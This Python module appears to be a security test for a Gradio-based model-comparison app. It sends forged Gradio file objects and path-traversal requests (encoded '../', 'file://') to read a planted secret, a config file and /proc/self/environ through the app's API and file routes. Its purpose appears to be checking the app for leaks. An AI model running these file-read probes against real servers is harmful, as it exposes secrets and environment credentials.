"""Files of the server, read through Gradio's idea of an uploaded file, in the texts of the battle API."""

from __future__ import annotations

import re
from itertools import product
from pathlib import Path
from typing import Any

from reproduce.attacks.outcome import Outcome, outcome
from reproduce.attacks.page import Page
from reproduce.attacks.target import Target

MEMBERS = (  # method and path of a request, with a member of its body
    ("POST", "", "prompt"), ("POST", "", "images"), ("POST", "", "models"), ("POST", "", "again"),
    ("POST", "/{}/turns", "prompt"), ("POST", "/{}/turns", "images"), ("POST", "/{}/vote", "winner"),
    ("POST", "/{}/vote", "reasons"), ("PUT", "/{}/shared", "shared"), ("POST", "/{}/report", "text"),
)  # fmt: skip


def file_as_input(target: Target) -> Outcome:
    """A `FileData` in place of each member of each body; then each path in the reply is asked for."""
    files = [target.folder / "secret.txt", target.folder / "arena.toml", Path("/proc/self/environ")]
    payloads = [payload for file in files for payload in _payloads(str(file))]
    tries: list[str | None] = []
    with target.visitor() as http:
        page = Page(http)
        battle = page.answered("Hello?")
        for (method, path, member), payload in product(MEMBERS, payloads):
            reply = page.send(method, path.format(battle), **{member: payload})
            tries.append(_leak(http, reply.text, target.secret))
    return outcome("file of the server as an input", tries)


def file_routes(target: Target) -> Outcome:
    """The same files by each address under which Gradio serves files."""
    secret = target.folder / "secret.txt"
    paths = [
        f"{prefix}/{route}{separator}{path}"
        for prefix in ("/gradio_api", "")
        for route in ("file", "stream", "proxy", "static", "assets", "custom_component")
        for separator in ("=", "/")
        for path in (f"{secret}", f"/..{secret}", f"%2e%2e%2f{secret}", f"file://{secret}")
    ]
    with target.visitor() as http:
        replies = [http.get(path).text for path in paths]
    return outcome("file routes", [text if target.secret in text else None for text in replies])


def _payloads(path: str) -> list[Any]:
    data = {"path": path, "meta": {"_type": "gradio.FileData"}}
    return [data, [data], {"text": "x", "files": [data]}, {"value": data}]


def _leak(http: Any, reply: str, secret: str) -> str | None:
    """Where the secret was read: in the reply, or behind a path that it names."""
    if secret in reply:
        return "in the reply"
    for path in set(re.findall(r"(/[\w./-]*gradio[\w./-]*)", reply)):
        for address in (f"/gradio_api/file={path}", f"/file={path}"):
            if secret in http.get(address).text:
                return address
    return None
